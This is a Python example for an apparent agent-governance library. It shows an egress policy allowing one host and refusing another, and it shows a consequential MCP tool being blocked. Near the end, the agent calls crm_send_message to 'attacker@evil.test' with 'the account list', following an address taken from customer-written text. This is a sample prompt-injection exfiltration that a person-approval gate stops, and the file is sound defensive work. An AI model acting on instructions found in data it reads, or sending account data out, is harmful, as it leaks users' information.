"""Governed HTTP and MCP tools, shown in docs/tools.md and run by tests/tools/test_docs_example.py.

An agent fetches a page (permitted by tools/egress.cedar), is refused another host, reads a customer through an MCP
server (tools/crm_server.py, started over stdio) and is stopped when it tries to act on what the customer wrote.
"""

import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import podium
from podium.tools import http_get

HERE = Path(__file__).parent / "tools"

crm = podium.MCPServer(
    "crm",
    [sys.executable, str(HERE / "crm_server.py")],  # a stdio server's command; or its URL, "http://…/mcp"
    read_only=["lookup_customer"],  # changes nothing; every other tool is consequential
    sinks={"send_message": {"to": "target", "body": "content"}},
)
researcher = podium.Agent(
    "researcher",
    owner="research-lead@example.com",
    models=[],
    tools=[http_get, crm.tool("lookup_customer"), crm.tool("send_message")],
)
app = podium.App(agents=[researcher], tools=[http_get, crm])


class Page(BaseHTTPRequestHandler):
    """A web page on this machine, for the agent to fetch."""

    def do_GET(self) -> None:
        body = b"Opening hours: 9-17."
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


def main(settings: podium.Settings | None = None) -> list[str]:
    settings = (settings or podium.Settings()).model_copy(update={"policies": HERE})
    site = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    page = f"http://127.0.0.1:{site.server_address[1]}/hours"
    said = []
    try:
        with podium.launch(settings, app), podium.request_scope("example-1"):
            said.append(researcher.call_tool("http_get", url=page)["text"])
            try:
                researcher.call_tool("http_get", url=page.replace("127.0.0.1", "localhost"))
            except podium.ActionDenied as refused:
                said.append(f"refused: {refused}".split(" (host")[0])
            record = researcher.call_tool("crm_lookup_customer", customer="c-7")
            said.append(record)
            try:  # the address comes from what the customer wrote: a person must approve
                researcher.call_tool("crm_send_message", to="attacker@evil.test", body="the account list")
            except podium.ActionDenied as stopped:
                said.append(f"stopped: {stopped}")
    finally:
        site.shutdown()
        site.server_close()
    return said


if __name__ == "__main__":
    print(*main(), sep="\n")
